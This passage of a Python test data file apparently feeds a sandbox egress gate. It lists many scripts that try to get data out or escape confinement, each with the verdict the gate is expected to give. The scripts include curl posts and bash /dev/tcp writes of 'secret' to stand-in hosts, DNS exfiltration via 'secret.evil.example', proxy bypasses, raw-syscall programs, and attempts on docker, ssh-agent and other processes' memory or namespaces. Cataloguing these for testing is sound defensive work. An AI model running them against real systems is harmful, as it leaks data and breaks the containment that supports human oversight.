# ruff: noqa: E501  # a script is a line
"""Ways by which a command could send: each is caught by a gate, or makes coverage incomplete, or is
closed. A way that somebody found becomes a row.

Of each the name, the reason that the gate has to give, and a script: of Python, or of sh after
`sh:`, or of C after `c:`. A reason is `to …` (what was sent, and to where), an id of
`app.run.interception` or of a gap; CLOSED: the kernel refuses, and the script ends with 7.
HELPER is the folder in which other programs of the machine serve, VICTIM is one of them.
"""

from app.run import interception as way

OUT, OUT6, NO_WAY = "203.0.114.9", "2606:1::9", "198.51.100.9"
CLOSED = "closed"
UDP = "u = socket.socket(type=socket.SOCK_DGRAM)\n"
UDP6 = "u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
TCP = "s = socket.socket(); s.setblocking(False)\n"
UNIX = "s = socket.socket(socket.AF_UNIX)\n"
C = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n"
QUERY = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'"
ROUTE = f"b'\\x83\\7\\4' + socket.inet_aton('{OUT}') + b'\\0'"
DEVICE = "socket.if_nametoindex('eth0').to_bytes(4, sys.byteorder)"
OPEN = "import os; os.dup2(os.open(HELPER, os.O_PATH), 999)\n"
# The kernel's table of Unix sockets has one on each line, with its name as it is.
LINES = "import tempfile\nn = socket.socket(1); n.bind(tempfile.mkdtemp() + '/x\\n0 1 2 3 4 5 none z')\n"
CURL, CURL_OUT = "curl -sk -m 60", "curl -sk -m 5"  # the latter where nobody answers


def refused(what: str) -> str:
    """A Python script that ends with 7 where the kernel refuses."""
    return f"import sys\ntry:\n    {what}\nexcept OSError as e:\n    print(e); sys.exit(7)\n"


def calls(*arguments: object) -> str:
    """A system call that ends the script with 7 where the kernel refuses it."""
    given = ", ".join(map(str, arguments))
    return f"{C}import sys\nr = libc.syscall({given}); print(r, ctypes.get_errno())\nsys.exit(7 if r < 0 else 0)\n"


def socket_of(family: int, kind: int, protocol: int = 0) -> tuple[str, str]:
    return (
        way.OTHER_SOCKET,
        f"import contextlib\nwith contextlib.suppress(OSError): socket.socket({family}, {kind}, {protocol})",
    )


def hidden(sock: str, number: int, *more: object) -> str:
    """A call with an address in memory that the kernel shows to no other process."""
    given = "".join(f"{one}, " for one in more)
    return (
        f"{C}import mmap, sys\nfd = libc.syscall(447, 0)\nif fd < 0: sys.exit(7)\n"
        f"os.ftruncate(fd, 4096); m = mmap.mmap(fd, 4096); s = {sock}; s.setblocking(False)\n"
        f"m[:16] = b'\\2\\0' + (8443).to_bytes(2) + socket.inet_aton('{OUT}') + bytes(8)\n"
        f"at = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
        f"r = libc.syscall({number}, s.fileno(), {given}at, 16); sys.exit(7 if r < 0 and ctypes.get_errno() == 14 else 0)"
    )


def in_a_thread(name: str, kind: int = 1) -> str:
    """Sends to a helper from a thread with a working directory of its own."""
    return (
        f"{C}import threading\ndef f():\n  libc.unshare(0x200); os.chdir(HELPER); s = socket.socket(1, {kind})\n"
        f"  s.connect('{name}'); s.send(b'x')\nos.chdir('/'); t = threading.Thread(target=f); t.start(); t.join()"
    )


def stream(place: str) -> str:
    return f"{UNIX}s.connect({place}); s.send(b'x')"


WEB: dict[str, tuple[str, str]] = {
    "head": ("to out.example", f"sh:{CURL} -I http://out.example/"),
    "a query": ("to out.example", f"sh:{CURL} 'https://out.example/?id=secret'"),
    "a post": ("to out.example", f"sh:{CURL} -d secret http://out.example/"),
    "an upload": ("to out.example", f"sh:echo secret | {CURL} -T - http://out.example/"),
    "a host of a profile": ("to cdn.cribl.io", f"sh:{CURL} https://cdn.cribl.io/telemetry/index.html?v=1"),
    "without the proxy": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' http://{OUT}/secret"),
    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL_OUT} http://{OUT}/secret"),
    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL_OUT} http://{OUT}/secret"),
    "http2 without tls": ("to ", f"sh:{CURL_OUT} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
    "http 0.9": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'GET /secret\\r\\n'); s.close()"),
    "half a request": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'POST /secret HT'); s.close()"),
    "no byte": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 443)); s.close()"),
    "a websocket": ("to secret.example", f"s = socket.create_connection(('{OUT}', 80))\n"
        "s.send(b'GET /x HTTP/1.1\\r\\nhost: secret.example\\r\\nconnection: upgrade\\r\\nupgrade: websocket\\r\\n\\r\\n')"),
    "grpc": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80))\n"
        "s.send(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(9)); s.close()"),
    "a name in a handshake": ("to secret.example", "import ssl\n"
        f"s = socket.create_connection(('{OUT}', 443)); s.settimeout(10)\n"
        "c = ssl._create_unverified_context()\n"
        "try: c.wrap_socket(s, server_hostname='secret.example')\nexcept OSError: pass"),
    "raw tls": ("to ", f"sh:timeout 4 openssl s_client -connect {OUT}:443 </dev/null"),
    "tls of a mail server": ("other_port", f"sh:timeout 3 openssl s_client -starttls smtp -connect {OUT}:25 </dev/null"),
    "dns over https": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
    "ipv6": (f"to {OUT6}", f"s = socket.create_connection(('{OUT6}', 80)); s.send(b'x'); s.close()"),
    "ipv4 in ipv6": (f"to {OUT}", "s = socket.socket(socket.AF_INET6)\n"
        f"s.connect(('::ffff:{OUT}', 443)); s.send(b'x'); s.close()"),
    "another proxy outside": ("to ", f"s = socket.create_connection(('{OUT}', 80))\n"
        "s.send(b'CONNECT secret.example:443 HTTP/1.1\\r\\nhost: secret.example\\r\\n\\r\\n'); s.close()"),
    "another port by the proxy": ("to out.example", f"sh:{CURL} -p http://out.example:8080/secret"),
    "node": (way.LOOKUP, "sh:node -e \"fetch('https://out.example/secret').catch(() => 0)\""),
    "perl": (f"to {OUT}", f"sh:perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{OUT}:80\")->print(\"x\")'"),
    "php": (f"to {OUT}", f"sh:timeout 5 php -r '@file_get_contents(\"http://{OUT}/secret\");'"),
    "bash": (f"to {OUT}", f"sh:bash -c 'echo secret >/dev/tcp/{OUT}/80'"),
    "wget": ("to out.example", "sh:timeout 5 wget -q -t 1 http://out.example/secret"),
    "git": ("to out.example", "sh:timeout 10 git ls-remote https://out.example/secret"),
    "fast open by connect": (f"to {OUT}", f"s = socket.socket(); s.setsockopt(6, 30, 1)\ns.connect(('{OUT}', 80)); s.send(b'x'); s.close()"),
    "vfork": (f"to {OUT}", f"import subprocess\nsubprocess.run(['bash', '-c', 'echo x >/dev/tcp/{OUT}/80'], close_fds=False)"),
}  # fmt: skip

PORTS: dict[str, tuple[str, str]] = {
    "another port": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 8443))"),
    "a port that knocks": (way.OTHER_PORT, f"for port in (1, 2, 65535):\n  {TCP.strip()}; s.connect_ex(('{OUT}', port))"),
    "a connection that times out": (way.OTHER_PORT, f"s = socket.socket(); s.settimeout(1)\ntry: s.connect(('{OUT}', 5000))\nexcept OSError: pass"),
    "multipath tcp": (CLOSED, refused("socket.socket(2, 1, 262)")),
    "once disconnected": (way.OTHER_PORT, f"{C}l = socket.create_server(('127.0.0.1', 0)); s = socket.create_connection(l.getsockname())\n"
        f"libc.connect(s.fileno(), bytes(16), 16); s.setblocking(False); s.connect_ex(('{OUT}', 8443))"),
    "an address that nobody else reads": (CLOSED, hidden("socket.socket()", 42)),
    "mail": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 25))"),
    "ftp": (way.OTHER_PORT, f"sh:curl -s -m 2 --noproxy '*' ftp://{OUT}/x"),
    "ssh": (way.OTHER_PORT, f"sh:ssh -o ConnectTimeout=2 -o BatchMode=yes -W x:1 {OUT} </dev/null"),
    "git's own": (way.OTHER_PORT, f"sh:timeout 2 git ls-remote git://{OUT}/x"),
    "dns over tls": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 853))"),
    "dns over tcp": (way.LOOKUP, f"{TCP}s.connect_ex(('{OUT}', 53))"),
    "metadata of a cloud": (way.LINK_LOCAL, f"{TCP}s.connect_ex(('169.254.169.254', 80))"),
    "where no way leads": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 443))"),
    "where no way leads, another port": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 8443))"),
    "a server for other machines": (CLOSED, "l = socket.create_server(('', 0)); s = socket.socket(); s.bind(('10.0.0.2', 0)); s.settimeout(1)\n"
        "try: s.connect(('127.0.0.1', l.getsockname()[1]))\nexcept TimeoutError: sys.exit(7)"),
    "fast open": (CLOSED, refused(f"socket.socket().sendto(b'x', 0x20000000, ('{OUT}', 443))")),
    "a static program": (way.OTHER_PORT, """c:
static long call(long n, long a, long b, long c) { long r; __asm__ volatile("syscall"
  : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; }
void _start(void) { static unsigned char to[16] = {2,0, 0x11,0x51, 203,0,114,9};
  long s = call(41, 2, 1 | 04000, 0); call(42, s, (long)to, 16); call(60, 0, 0, 0); }"""),
    "the x32 abi": (CLOSED, """c:
static long call(long n, long a, long b, long c) { long r; __asm__ volatile("syscall"
  : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; }
void _start(void) { call(60, call(41 | 0x40000000, 2, 1, 0) < 0 ? 7 : 0, 0, 0); }"""),
    "32 bits": (way.OTHER_PORT, """c32:
static int call(int a, unsigned *b) { int r;
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(102), "b"(a), "c"(b) : "memory"); return r; }
void _start(void) { static unsigned char to[16] = {2,0, 0x11,0x51, 203,0,114,9};
  static unsigned tcp[3] = {2, 1 | 04000, 0}; unsigned at[3] = {call(1, tcp), (unsigned)to, 16};
  call(3, at); __asm__ volatile("int $0x80" :: "a"(1), "b"(0)); }"""),
}  # fmt: skip

DATAGRAMS: dict[str, tuple[str, str]] = {
    name: (way.DATAGRAMS, script)
    for name, script in {
        "udp": f"{UDP}u.connect(('{OUT}', 4433)); u.send(b'x')",
        "udp, not blocking": f"{UDP}u.setblocking(False); u.connect(('{OUT}', 4433)); u.send(b'x')",
        "udp that looks for a way": f"{UDP}u.connect(('{OUT}', 9)); u.send(b'x')",
        "udp behind a connection to somebody else": f"{UDP}u.connect(('{OUT}', 4433)); u.send(b'x')\n"
            f"{TCP}s.connect_ex(('203.0.114.10', 4433))",
        "sendto": f"{UDP}u.sendto(b'x', ('{OUT}', 4433))",
        "sendto, ipv6": f"{UDP6}u.sendto(b'x', ('{OUT6}', 4433))",
        "sendto, ipv4 in ipv6": f"{UDP6}u.sendto(b'x', ('::ffff:{OUT}', 4433))",
        "sendto of a connected one": f"{UDP}u.connect(('127.0.0.1', 9)); u.sendto(b'x', ('{OUT}', 4433))",
        "sendmsg": f"{UDP}u.sendmsg([b'x'], [], 0, ('{OUT}', 4433))",
        "sendmmsg": f"""{C}{UDP}
to = ctypes.create_string_buffer(b'\\2\\0' + (4433).to_bytes(2, 'big') + socket.inet_aton('{OUT}') + bytes(8), 16)
text = ctypes.create_string_buffer(b'x', 1)
iov = (ctypes.c_ulong * 2)(ctypes.addressof(text), 1)
many = (ctypes.c_ulong * 8)(ctypes.addressof(to), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0)
print(libc.syscall(307 if os.uname().machine == 'x86_64' else 269, u.fileno(), many, 1, 0))""",
        "quic": f"{UDP}u.connect_ex(('{OUT}', 443))",
        "quic, sendto": f"{UDP}\ntry: u.sendto(b'x', ('{OUT}', 443))\nexcept OSError: pass",
        "http/3": f"{UDP}u.setblocking(False); u.connect_ex(('{OUT6[:0]}{OUT}', 443)); u.close()",
        "time": f"{UDP}u.sendto(bytes(48), ('{OUT}', 123))",
        "a log server": f"{UDP}u.sendto(b'<13>secret', ('{OUT}', 514))",
        "mdns": f"{UDP}u.sendto({QUERY}, ('224.0.0.251', 5353))",
        "broadcast": f"{UDP}u.setsockopt(1, 6, 1); u.sendto(b'x', ('10.0.0.255', 4433))",
        "as nobody": f"{UDP}import os; os.setuid(65534); u.sendto(b'x', ('{OUT}', 4433))",
    }.items()
} | {
    "a send without a family": (way.DATAGRAMS, f"{C}{UDP}libc.sendto(u.fileno(), b'x', 1, 0, bytes(2) + (4433).to_bytes(2) + socket.inet_aton('{OUT}') + bytes(8), 16)"),
    "an address that nobody else reads": (CLOSED, hidden("socket.socket(type=2)", 44, "b'x'", 1, 0)),
    "a telemock without descriptors": (way.UNREADABLE, "import os, resource\np = os.getpid()\n"
        "while 'app.cli' not in open(f'/proc/{p}/cmdline').read(): p = int(open(f'/proc/{p}/stat').read().rpartition(')')[2].split()[1])\n"
        "had = resource.prlimit(p, resource.RLIMIT_NOFILE); resource.prlimit(p, resource.RLIMIT_NOFILE, (3, had[1]))\n"
        f"try: socket.socket(type=2).sendto(b'x', ('{OUT}', 4433))\nfinally: resource.prlimit(p, resource.RLIMIT_NOFILE, had)"),
    "a source route": (CLOSED, refused(f"u = socket.socket(type=2); u.setsockopt(0, 4, {ROUTE}); u.sendto(b'x', ('127.0.0.1', 4433))")),
    "a source route of one message": (CLOSED, refused(f"socket.socket(type=2).sendmsg([b'x'], [(0, 7, {ROUTE})], 0, ('127.0.0.1', 4433))")),
    "a source route, ipv6": (CLOSED, refused(f"u = socket.socket(10, 2); u.setsockopt(41, 57, bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(10, '{OUT6}')); u.sendto(b'x', ('::1', 4433))")),
    "loopback by a device": (CLOSED, refused("u = socket.socket(type=2); u.setsockopt(1, 25, b'eth0'); u.sendto(b'x', ('127.0.0.9', 4433))")),
    "loopback by a device's number": (CLOSED, refused("u = socket.socket(type=2); u.setsockopt(0, 50, socket.if_nametoindex('eth0').to_bytes(4)); u.sendto(b'x', ('127.0.0.9', 4433))")),
    "loopback by a device of one message": (CLOSED, refused(f"socket.socket(type=2).sendmsg([b'x'], [(0, 8, {DEVICE} + bytes(8))], 0, ('127.0.0.9', 4433))")),
    "loopback by a device, ipv6": (CLOSED, refused(f"u = socket.socket(10, 2); u.setsockopt(41, 50, bytes(16) + {DEVICE}); u.sendto(b'x', ('::1', 4433))")),
    "loopback by a device of one message, ipv6": (CLOSED, refused(f"socket.socket(10, 2).sendmsg([b'x'], [(41, 50, bytes(16) + {DEVICE})], 0, ('::1', 4433))")),
    "a port of the machine's that nobody serves": (way.LOCAL, f"{UDP}u.sendto(b'x', ('10.0.0.2', 30053))"),
    "from a network of its own to the machine's address": (way.OTHER_NETWORK, "sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; bash -c \"echo x >/dev/udp/10.0.0.2/4433\"'"),
    "connected to port 0": (CLOSED, refused(f"u = socket.socket(type=2); u.connect(('{OUT}', 0)); u.send(b'x')")),
    "connected to port 0, ipv6": (CLOSED, refused(f"u = socket.socket(10, 2); u.connect(('{OUT6}', 0)); u.send(b'x')")),
    "a closed port that answers to another machine": (CLOSED, refused(f"u = socket.socket(10, 2); u.setsockopt(41, 78, 1); u.bind(('{OUT6}', 5555)); u.sendto(b'x', ('::1', 9))")),
    "a closed port that resets to another machine": (CLOSED, refused(f"s = socket.socket(10); s.setblocking(False); s.setsockopt(41, 75, 1); s.bind(('{OUT6}', 5556)); s.connect_ex(('::1', 9))")),
    "a closed port that resets to another machine, ipv4": (CLOSED, refused(f"s = socket.socket(); s.setblocking(False); s.setsockopt(0, 19, 1); s.bind(('{OUT}', 5557)); s.connect_ex(('10.0.0.2', 9))")),
    "another machine's address without a right": (CLOSED, refused(f"u = socket.socket(type=2); u.setsockopt(0, 15, 1); u.bind(('{OUT}', 5558))")),
    "ipv4 at a socket of ipv6": (way.DATAGRAMS, f"{C}{UDP6}libc.sendto(u.fileno(), b'x', 1, 0, b'\\2\\0' + (4433).to_bytes(2) + socket.inet_aton('{OUT}') + bytes(8), 16)"),
    "corked": (way.DATAGRAMS, f"{UDP}u.sendto(b'x', 0x8000, ('{OUT}', 4433)); u.send(b'y')"),
    "spliced": (way.DATAGRAMS, f"import os\n{UDP}u.connect(('{OUT}', 4433)); r, w = os.pipe(); os.write(w, b'x'); os.splice(r, u.fileno(), 1)"),
    "an empty one": (way.DATAGRAMS, f"{UDP}u.sendto(b'', ('{OUT}', 4433))"),
    "to everybody": (way.DATAGRAMS, f"{UDP}u.setsockopt(1, 6, 1); u.sendto(b'x', ('255.255.255.255', 4433))"),
    "link-local": (way.DATAGRAMS, f"{UDP6}u.sendto(b'x', ('fe80::1', 4433, 0, socket.if_nametoindex('eth0')))"),
    "ipv4 in ipv6, by a translator": (way.DATAGRAMS, f"{UDP6}u.sendto(b'x', ('64:ff9b::cb00:7209', 4433))"),
    "a look for services": (way.DATAGRAMS, f"{UDP}u.sendto(b'M-SEARCH * HTTP/1.1', ('239.255.255.250', 1900))"),
    "llmnr": (way.DATAGRAMS, f"{UDP}u.sendto({QUERY}, ('224.0.0.252', 5355))"),
    "a program that nobody may read": (way.DATAGRAMS, f"{C}{UDP}libc.prctl(4, 0, 0, 0, 0); u.sendto(b'x', ('{OUT}', 4433))"),
    "a group": (way.JOINED, f"{UDP}u.setsockopt(0, 35, socket.inet_aton('239.1.2.3') + bytes(4))"),
    "a group, ipv6": (way.JOINED, f"{UDP6}u.setsockopt(41, 20, socket.inet_pton(10, 'ff15::5ec2:e7') + bytes(4))"),
}  # fmt: skip

LOOKUPS: dict[str, tuple[str, str]] = {
    "libc": (way.LOOKUP, "\ntry: socket.getaddrinfo('secret.evil.example', 80)\nexcept OSError: pass"),
    "perl's": (way.LOOKUP, "sh:timeout 5 perl -e 'gethostbyname(\"secret.evil.example\")'"),
    "node's own": (way.LOOKUP, "sh:timeout 5 node -e \"require('dns').resolveTxt('secret.evil.example', () => process.exit())\""),
    "a resolver of one's own": (way.LOOKUP, f"{UDP}u.sendto({QUERY}, ('{OUT}', 53))"),
    "a resolver of one's own, connected": (way.LOOKUP, f"import os\n{UDP}u.connect(('{OUT}', 53)); os.write(u.fileno(), {QUERY})"),
    "a resolver by ipv6": (way.LOOKUP, f"{UDP6}u.sendto({QUERY}, ('{OUT6}', 53))"),
    "an alias": (way.LOOKUP, "sh:a=$(mktemp); echo 'zz secret.evil.example' >$a; HOSTALIASES=$a getent hosts zz"),
    "a domain of one's own": (way.LOOKUP, "sh:LOCALDOMAIN=secret.evil.example getent hosts zz"),
    "by tcp": (way.LOOKUP, "sh:RES_OPTIONS=use-vc timeout 2 getent hosts secret.evil.example"),
    "of an address": (way.LOOKUP, "\ntry: socket.gethostbyaddr('203.0.114.8')\nexcept OSError: pass"),
    "systemd's stub": (way.LOOKUP, f"{UDP}u.sendto({QUERY}, ('127.0.0.53', 53))"),
    "systemd's socket": (CLOSED, refused("socket.socket(1).connect('/run/systemd/resolve/io.systemd.Resolve')")),
    "nscd": (CLOSED, refused("socket.socket(1).connect('/run/nscd/socket')")),
    "avahi": (CLOSED, refused("socket.socket(1).connect('/run/avahi-daemon/socket')")),
}  # fmt: skip

OTHERS: dict[str, tuple[str, str]] = {
    "a helper": (way.LOCAL, stream("HELPER + '/stream'")),
    "a helper, relative": (way.LOCAL, f"import os; os.chdir(HELPER)\n{stream('\"stream\"')}"),
    "a helper, abstract": (way.LOCAL, stream("'\\0telemock-helper'")),
    "a helper, another root": (way.LOCAL, f"import os; os.chroot(HELPER)\n{stream('\"/stream\"')}"),
    "a helper, datagrams": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'x', HELPER + '/datagrams')"),
    "a helper, packets": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.connect(HELPER + '/packets'); s.send(b'x')"),
    "a helper that is slow": (way.LOCAL, f"import signal; signal.alarm(3)\n{UNIX}s.connect(HELPER + '/slow')"),
    "a helper's connection": (way.LOCAL, f"{UNIX}s.connect(HELPER + '/stream')\n"
        "fd = socket.recv_fds(s, 1, 1)[1][0]; socket.socket(fileno=fd).send(b'x')"),
    "a helper, by a link in another root": (way.LOCAL, "import os; os.symlink('/stream', HELPER + '/to-stream'); os.chroot(HELPER)\n"
        + stream("'/to-stream'")),
    "a helper, datagrams by a link in another root": (way.LOCAL, "import os; os.symlink('/datagrams', HELPER + '/to-datagrams'); os.chroot(HELPER)\n"
        "s = socket.socket(1, socket.SOCK_DGRAM); s.sendto(b'x', '/to-datagrams')"),
    "a helper, from where a thread alone is": (way.LOCAL, in_a_thread("stream")),
    "a helper, datagrams from where a thread alone is": (way.LOCAL, in_a_thread("datagrams", 2)),
    "a helper, by a link that moves": (way.LOCAL, "import os, tempfile\nd = tempfile.mkdtemp(); l = socket.socket(1, 2); l.bind(d + '/own'); os.symlink(d + '/own', d + '/to')\n"
        "s = socket.socket(1, 2); s.sendto(b'x', d + '/to'); os.unlink(d + '/to'); os.symlink(HELPER + '/datagrams', d + '/to'); s.sendto(b'x', d + '/to')"),
    "a helper, datagrams by what it has open": (way.UNREADABLE, f"{OPEN}socket.socket(1, 2).sendto(b'x', '/proc/self/fd/999/datagrams')"),
    "a helper, datagrams by what it has open as a device": (way.UNREADABLE, f"{OPEN}socket.socket(1, 2).sendto(b'x', '/dev/fd/999/datagrams')"),
    "a helper, datagrams by what a thread has open": (way.UNREADABLE, f"{OPEN}socket.socket(1, 2).sendto(b'x', '/proc/thread-self/fd/999/datagrams')"),
    "a helper, datagrams by a link to what it has open": (CLOSED, f"import tempfile\n{OPEN}d = tempfile.mkdtemp(); os.symlink('/proc/self/fd/999', d + '/x')\n"
        + refused("socket.socket(1, 2).sendto(b'x', d + '/x/datagrams')")),
    "a helper that is slow, by what it has open": (way.LOCAL, f"import signal; signal.alarm(3)\n{OPEN}{UNIX}s.connect('/proc/self/fd/999/slow')"),
    "a helper, beside names with lines": (way.LOCAL, f"{LINES}{stream('HELPER + \"/stream\"')}"),
    "a helper, datagrams beside names with lines": (way.LOCAL, f"{LINES}socket.socket(1, 2).sendto(b'x', HELPER + '/datagrams')"),
    "a helper, abstract and no text": (way.LOCAL, "s = socket.socket(1, 2); s.sendto(b'x', b'\\0\\xff\\xfehelper')"),
    "a helper, abstract with a NUL": (way.LOCAL, "s = socket.socket(1, 2); s.sendto(b'x', b'\\0tele\\0mock')"),
    "a helper, by the name of the accounts' service": (way.LOCAL, "import os; d = HELPER + '/jail/run/systemd/userdb'; os.makedirs(d); os.link(HELPER + '/stream', d + '/x'); os.chroot(HELPER + '/jail')\n"
        + stream("'/run/systemd/userdb/x'")),
    "a helper, by a path through the accounts' service": (way.LOCAL, stream("'/run/systemd/userdb/../private'")),
    "a helper, by the name of an own one in another network": (way.LOCAL, "import os, tempfile, time\nif not sys.argv[1:]: os.execvp('unshare', ['unshare', '-rn', sys.executable, __file__, 'x'])\n"
        "r, w = os.pipe(); k = os.fork()\nif not k:\n  d = tempfile.mkdtemp(); os.makedirs(d + HELPER); os.chroot(d); l = socket.socket(1); l.bind(HELPER + '/stream'); l.listen(); os.write(w, b'x'); l.accept()\n"
        "os.read(r, 1); s = socket.socket(1); s.connect(HELPER + '/stream'); s.send(b'x'); time.sleep(1); os.kill(k, 9)"),
    "a helper, by the bus's name in mounts of its own": (way.LOCAL, "import os, subprocess\nif not sys.argv[1:]: os.execvp('unshare', ['unshare', '-rm', sys.executable, __file__, 'x'])\n"
        "bus = '/run/dbus/system_bus_socket'; subprocess.run(['mount', '--bind', HELPER + '/stream', bus], check=True)\n" + stream("bus")),
    "docker": (way.DAEMON, stream("HELPER + '/docker.sock'")),
    "containerd": (way.DAEMON, stream("HELPER + '/containerd.sock'")),
    "the message bus": (way.LOCAL, stream("'/run/dbus/system_bus_socket'")),
    "a person's message bus": (way.LOCAL, stream("'/run/user/0/bus'")),
    "systemd": (way.LOCAL, stream("'/run/systemd/private'")),
    "the screen": (way.LOCAL, stream("'\\0/tmp/.X11-unix/X0'")),
    "wayland": (way.LOCAL, stream("'/run/user/0/wayland-0'")),
    "the agent of ssh": (way.LOCAL, stream("HELPER + '/agent.1'")),
    "the agent of gnupg": (way.LOCAL, stream("HELPER + '/S.gpg-agent'")),
    "dirmngr": (way.LOCAL, stream("HELPER + '/S.dirmngr'")),
    "the log": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'<13>secret', '/run/systemd/journal/dev-log')"),
    "a local server": (way.LOCAL, "socket.create_connection(('127.0.0.1', 9001)).send(b'x')"),
    "a local server, by no address": (way.LOCAL, "socket.create_connection(('0.0.0.0', 9001)).send(b'x')"),
    "a local server, ipv4 in ipv6": (way.LOCAL, "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', 9001))"),
    "a local server, by the machine's address": (way.LOCAL, "socket.create_connection(('10.0.0.2', 9001))"),
    "a proxy on this machine": (way.LOCAL, "sh:curl -s -m 2 -x http://127.0.0.1:9001 http://out.example/"),
    "a server of datagrams, behind an own one": (way.LOCAL, "o = socket.socket(type=2); o.setsockopt(1, 2, 1); o.bind(('127.0.0.1', 9003)); u = socket.socket(type=2)\n"
        "u.connect(('127.0.0.1', 9003)); o.close(); u.send(b'x')"),
    "statsd": (way.LOCAL, f"{UDP}u.sendto(b'x', ('127.0.0.1', 9002))"),
}  # fmt: skip

SOCKETS: dict[str, tuple[str, str]] = {
    "icmp": (way.OTHER_SOCKET, f"s = socket.socket(2, 3, 1); s.sendto(bytes(8), ('{OUT}', 0))"),
    "ping": socket_of(2, 2, 1),
    "packets": (way.OTHER_SOCKET, "s = socket.socket(17, 3, 0x300); s.bind(('eth0', 0)); s.send(bytes(60))"),
    "sctp": socket_of(2, 1, 132), "udp-lite": socket_of(2, 2, 136), "dccp": socket_of(2, 6, 33),
    "vsock": socket_of(40, 1), "bluetooth": socket_of(31, 1, 3), "can": socket_of(29, 3, 1),
    "tipc": socket_of(30, 2), "xdp": socket_of(44, 3), "smc": socket_of(43, 1), "rds": socket_of(21, 5),
    "smc as a protocol": socket_of(2, 1, 256), "l2tp": socket_of(2, 2, 115), "pppox": socket_of(24, 2),
    "rxrpc": socket_of(33, 2, 2), "kcm": socket_of(41, 5), "mctp": socket_of(45, 2), "qrtr": socket_of(42, 2),
    "icmp, ipv6": socket_of(10, 3, 58), "raw": socket_of(2, 3, 255), "x25": socket_of(9, 5),
    "netlink to another program": (CLOSED, refused("socket.socket(16, 3, 2)")),
    "the audit": (CLOSED, refused("socket.socket(16, 3, 9)")),
    "a tunnel": (CLOSED, refused("import os, fcntl; fcntl.ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454ca, b'x0' + bytes(14) + b'\\1\\0' + bytes(22))")),
    "questions that another answers": (CLOSED, f"{C}import struct, sys\nop = lambda code, value, then=0: struct.pack('=HBBI', code, 0, then, value)\n"
        "code = op(0x20, 0) + op(0x15, 44, 1) + op(6, 0x7fc00000) + op(6, 0x7fff0000); kept = ctypes.create_string_buffer(code)\n"
        "given = struct.pack('@HP', 4, ctypes.addressof(kept)); libc.prctl(38, 1, 0, 0, 0)\n"
        "sys.exit(7 if libc.syscall(317 if os.uname().machine == 'x86_64' else 277, 1, 8, given) < 0 else 0)"),
    "io_uring": (CLOSED, calls(425, 8, "ctypes.create_string_buffer(120)")),
    "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; timeout 2 bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
    "an interface": (CLOSED, "sh:ip link add v0 type vxlan id 5 remote 203.0.114.9 dstport 4789 || exit 7"),
    "a route": (CLOSED, "sh:ip route add 127.9.0.0/16 via 10.0.0.1 || exit 7"),
    "the firewall": (CLOSED, "sh:nft add table ip t2 || exit 7"),
    "a network's file system": (CLOSED, "sh:mount -t nfs -o addr=203.0.114.9,vers=3,nolock 203.0.114.9:/x /mnt || exit 7"),
    "another network": (CLOSED, refused("import os; os.setns(os.open(f'/proc/{VICTIM}/ns/net', 0), 0x40000000)")),
}  # fmt: skip

PROCESSES: dict[str, tuple[str, str]] = {
    "a daemon": (way.DATAGRAMS, "import os, time\n"
        f"if os.fork(): time.sleep(1); os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(.5)\n{UDP}u.sendto(b'x', ('{OUT}', 4433))"),
    "a child that stays": ("descendants", "sh:setsid sleep 300 >/dev/null 2>&1 & exit 0"),
    "nohup": ("descendants", "sh:nohup sh -c 'sleep 300; curl http://out.example/' >/dev/null 2>&1 &"),
    "a process namespace": (way.DATAGRAMS, f"sh:unshare -rpf bash -c 'echo x >/dev/udp/{OUT}/4433'"),
    "another user": (way.DATAGRAMS, f"sh:setpriv --reuid=65534 --clear-groups bash -c 'echo x >/dev/udp/{OUT}/4433'"),
    "another program's memory": (CLOSED, refused("open(f'/proc/{VICTIM}/mem', 'r+b').close()")),
    "another program, traced": (CLOSED, calls("101 if os.uname().machine == 'x86_64' else 117", 16, "VICTIM", 0, 0)),
    "another program's files": (CLOSED, refused("import os; os.open(f'/proc/{VICTIM}/fd/1', os.O_WRONLY)")),
    "another program's root": (CLOSED, refused("import os; os.listdir(f'/proc/{VICTIM}/root')")),
